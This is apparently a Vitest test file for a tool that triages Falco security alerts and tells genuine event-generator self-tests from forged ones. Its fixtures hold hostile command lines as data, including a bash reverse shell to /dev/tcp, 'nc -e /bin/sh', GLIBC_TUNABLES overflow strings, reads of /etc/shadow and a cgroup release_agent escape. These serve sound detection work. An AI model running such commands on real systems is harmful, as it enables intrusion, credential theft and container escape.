import { describe, expect, test } from 'vitest'
import type { FieldValue } from '../../src/domain/event.ts'
import { problemsIn } from '../../src/report/verify.ts'
import { morning } from '../event.ts'
import { alertOf, bareEvent, reportOn, selfTest, textOf } from './material.ts'

type Fields = Readonly<Record<string, FieldValue>>

const image = { 'container.id': 'c61b4b13ae44', 'container.image.repository': 'docker.io/falcosecurity/event-generator' }
const itself = { 'proc.name': 'event-generator', 'proc.exepath': '/bin/event-generator', 'proc.cmdline': 'event-generator run syscall' }
const made = (action: string) => `/tmp/falco-event-generator-syscall-${action}-1`
const reported = (rule: string, fields: Fields) => reportOn(bareEvent({ rule, tags: [] }, fields))
const inImage = (rule: string, fields: Fields) => reported(rule, { ...image, 'proc.pname': 'event-generator', ...fields })
const like = (fields: Fields) => ({ ...selfTest, fields: new Map([...selfTest.fields, ...Object.entries(fields)]) })

const highTest = { label: 'Falco self-test', confidence: 'high' }

describe('a self-test in one alert with what is none', () => {
  const joinedBy = (fields: Fields) =>
    reportOn(selfTest, { events: [like(fields), selfTest].map((event) => ({ event, receivedAt: morning, verdict: 'fold' as const })) })

  test.each<[string, Fields]>([
    ['beneath a web server', { 'proc.aname[3]': 'nginx' }],
    ['from memory', { 'evt.arg.flags': 'EXE_FROM_MEMFD' }],
    ['of a binary that came later', { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' }],
    ['of another parent', { 'proc.pname': 'apache2', 'proc.pcmdline': 'apache2 -k start' }],
    ['of another parent that hides its command line', { 'proc.pname': 'python3', 'proc.pcmdline': 'python3 x' }],
    ['in another image', { 'container.image.repository': 'evil/x' }],
  ])('does not cover the same command %s', (_what, fields) => {
    const report = joinedBy(fields)
    expect(report.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(report, 'Verdict')).toContain('1 of the 2 events looked at do not')
    expect(problemsIn(report)).toEqual([])
  })

  test('stays one where it ran twice', () => {
    expect(joinedBy({ 'proc.cmdline': 'sh -c /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-Zz9.sh' }).verdict).toMatchObject(
      highTest,
    )
  })

  test('is not held for sure where most of the events were not looked at', () => {
    const report = reportOn(selfTest, { alert: { ...alertOf(selfTest), count: 500 } })
    expect(report.verdict).toMatchObject({ label: 'Falco self-test', confidence: 'medium' })
    expect(textOf(report, 'Verdict')).toContain("only 1 of the alert's 500 events were looked at")
    expect(problemsIn(report)).toEqual([])
  })
})

describe('a self-test is not forged', () => {
  test.each<[string, string, Fields]>([
    [
      'by the name of the directory of a program',
      'Read sensitive file untrusted',
      {
        ...itself,
        'container.id': 'host',
        'proc.exepath': `${made('ReadSensitiveFileUntrusted')}/event-generator`,
        'fd.name': '/etc/shadow',
      },
    ],
    [
      'by the name of the directory a program was started in',
      'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)',
      { 'proc.name': 'pkexec', 'proc.cmdline': 'pkexec', 'proc.pname': 'event-generator', 'proc.cwd': `${made('Polkit')}/` },
    ],
    [
      "by another action's file",
      'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)',
      { 'proc.name': 'pkexec', 'proc.cmdline': 'pkexec', 'proc.pname': 'event-generator', 'fd.name': made('WriteBelowEtc') },
    ],
  ])('%s', (_how, rule, fields) => {
    expect(reported(rule, fields).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
  })

  const history = `${made('DeleteOrRenameShellHistory')}/ash_history`
  const link = `${made('CreateSymlinkOverSensitiveFiles')}/etc_link`
  const linked = { 'proc.name': 'ln', 'proc.cmdline': `ln -s /etc ${link}`, 'evt.arg.linkpath': link }
  const proxied = { 'proc.name': 'curl', 'proc.cmdline': 'curl http://example.com' }
  const tuned = { 'proc.name': 'sh', 'proc.cmdline': 'sh -c id' }
  const setting = 'GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2'
  const environ = { 'proc.name': 'cat', 'proc.cmdline': 'cat /proc/self/environ', 'proc.pid': 41 }
  const proxyRule = 'Program run with disallowed http proxy env'
  const tunablesRule = 'Potential Local Privilege Escalation via Environment Variables Misuse'

  test.each<[string, string, Fields]>([
    ['renames', 'Delete or rename shell history', { ...itself, 'evt.arg.oldpath': '/root/.bash_history', 'evt.arg.newpath': history }],
    ['unlinks', 'Delete or rename shell history', { ...itself, 'evt.arg.name': '/root/.bash_history', 'evt.arg.path': history }],
    ['links to', 'Create Symlink Over Sensitive Files', { ...linked, 'evt.arg.target': '/etc/shadow' }],
    ['loads', proxyRule, { ...proxied, 'proc.env': 'LD_PRELOAD=/tmp/x.so HTTP_PROXY=http://my.http.proxy.com' }],
    ['goes through', proxyRule, { ...proxied, 'proc.env': 'HTTP_PROXY=http://203.0.113.66:8080' }],
    ['overflows', tunablesRule, { ...tuned, 'proc.env': 'GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAA' }],
    ['overflows too', tunablesRule, { ...tuned, 'proc.env': `${setting} glibc.malloc.mxfast=glibc.malloc.mxfast=AAAA` }],
    ['reads of another', 'Read environment variable from /proc files', { ...environ, 'fd.name': '/proc/1/environ' }],
    [
      'writes in a mounted control group',
      'Detect release_agent File Container Escapes',
      { 'proc.name': 'sh', 'proc.cmdline': "sh -c echo 'hello world' > release_agent", 'fd.name': '/tmp/cgrp/release_agent' },
    ],
  ])('where a field tells of something else that the event %s', (_what, rule, fields) => {
    const report = inImage(rule, fields)
    expect(report.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
    expect(textOf(report, 'Verdict')).toContain('is not, or not only, what the generator')
  })

  test.each<[string, string, Fields]>([
    ['history', 'Delete or rename shell history', { ...itself, 'evt.arg.name': history }],
    ['link', 'Create Symlink Over Sensitive Files', { ...linked, 'evt.arg.target': '/etc' }],
    ['proxy', proxyRule, { ...proxied, 'proc.env': 'PATH=/bin HTTP_PROXY=http://my.http.proxy.com ' }],
    ['tunables', tunablesRule, { ...tuned, 'proc.env': `PATH=/bin ${setting}` }],
    ['its own environment', 'Read environment variable from /proc files', { ...environ, 'fd.name': '/proc/41/environ' }],
    [
      'a shell behind netcat',
      'Netcat Remote Code Execution in Container',
      { 'proc.name': 'nc', 'proc.cmdline': 'nc -e /bin/sh example.com 22' },
    ],
    [
      'a shell beneath its own httpd',
      'Run shell untrusted',
      {
        'proc.name': 'sh',
        'proc.cmdline': 'sh -c ls > /dev/null',
        'proc.pname': 'httpd',
        'proc.pcmdline': 'httpd --loglevel info run ^helper.RunShell$',
        'proc.aname[2]': 'event-generator',
      },
    ],
  ])('and the honest one is known: %s', (_what, rule, fields) => {
    expect(inImage(rule, fields).verdict).toMatchObject(highTest)
  })

  test('by a shell that a real web server runs further up', () => {
    const fields = {
      'proc.name': 'sh',
      'proc.cmdline': 'sh -c ls > /dev/null',
      'proc.pname': 'httpd',
      'proc.pcmdline': 'httpd run ^helper.RunShell$',
      'proc.aname[2]': 'event-generator',
      'proc.aname[3]': 'nginx',
    }
    expect(inImage('Run shell untrusted', fields).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
  })

  test.each(['/tmp/.x/event-generator', '/host/tmp/event-generator'])('by a binary of its name in %s', (path) => {
    expect(reportOn(like({ 'proc.pexepath': path })).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
  })

  test.each<[string, Fields]>([
    ['on the host itself', { 'container.id': 'host', 'container.name': 'host' }],
    ["in a pod of another's name", { 'k8s.pod.name': 'nginx-7d', 'k8s.ns.name': 'prod' }],
    ["without the parent's command line", { 'proc.pcmdline': null }],
  ])('by names alone with more than medium confidence: %s', (_where, fields) => {
    const report = reportOn(like(fields))
    expect(report.verdict).toMatchObject({ label: 'Falco self-test', confidence: 'medium' })
    expect(textOf(report, 'Verdict')).toContain('anybody can choose the names of a process and a file')
    expect(problemsIn(report)).toEqual([])
  })

  test('and a binary in its usual place bears more than names', () => {
    expect(reportOn(like({ 'container.id': 'host', 'proc.pexepath': '/usr/local/bin/event-generator' })).verdict).toMatchObject(highTest)
  })
})

describe('what a report says of a self-test', () => {
  test('never is that nothing speaks against it, and then what does', () => {
    const report = inImage('Kubernetes Client Tool Launched in Container', {
      'proc.name': 'kubectl',
      'proc.exepath': '/usr/bin/kubectl',
      'proc.cmdline': 'kubectl',
      'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
    })
    expect(textOf(report, 'Verdict')).toContain('Against it: The executable /usr/bin/kubectl lies in the container')
    expect(textOf(report, 'Verdict')).not.toContain('nothing speaks against it')
  })

  test('is that an action is not known in detail, where it is not', () => {
    const memory = { 'proc.name': '3', 'proc.exepath': 'memfd:program', 'proc.cmdline': '3 run helper.DoNothing' }
    expect(textOf(inImage('Fileless execution via memfd_create', memory), 'Verdict')).not.toContain('belies')
    const fields = { ...itself, 'proc.pname': 'bash', 'fd.name': '/proc/self/fd/1' }
    const text = textOf(inImage('Modify Container Entrypoint', fields), 'Verdict')
    expect(text).toContain('is not known here in such detail')
    expect(text).not.toContain('is not, or not only, what')
  })
})

describe('an alert that people resolved as a test', () => {
  const shell = bareEvent({ tags: [] }, { 'proc.name': 'bash', 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444 0>&1' })
  const resolved = (event: typeof shell, outcome: 'test' | 'benign' | 'false positive', note: string) =>
    reportOn(event, { alert: { ...alertOf(event), status: 'resolved', outcome, note, by: 'U123', at: morning } })

  test.each(['test', 'benign'] as const)('with a note is taken at its word, and what the event shows is told: %s', (outcome) => {
    const report = resolved(shell, outcome, 'we ran the quarterly pentest')
    expect(report.verdict.confidence).toBe('medium')
    expect(textOf(report, 'Verdict')).toContain('the event alone would be suspicious, and the note explains it, if it is true')
    expect(textOf(report, 'Verdict')).toMatch(/Against it: .*\/dev\/tcp\/203\.0\.113\.24\/4444/)
    expect(problemsIn(report)).toEqual([])
  })

  test('without a note, or as a false alarm, is not explained where the event is suspicious', () => {
    expect(resolved(shell, 'test', '').verdict.confidence).toBe('low')
    expect(resolved(shell, 'false positive', 'noise').verdict.confidence).toBe('low')
  })

  test('needs no note where the event shows a test as well', () => {
    const report = resolved(selfTest, 'test', '')
    expect(report.verdict.confidence).toBe('high')
    expect(textOf(report, 'Verdict')).toContain('a person judged it so, and what the event shows by itself agrees')
  })
})
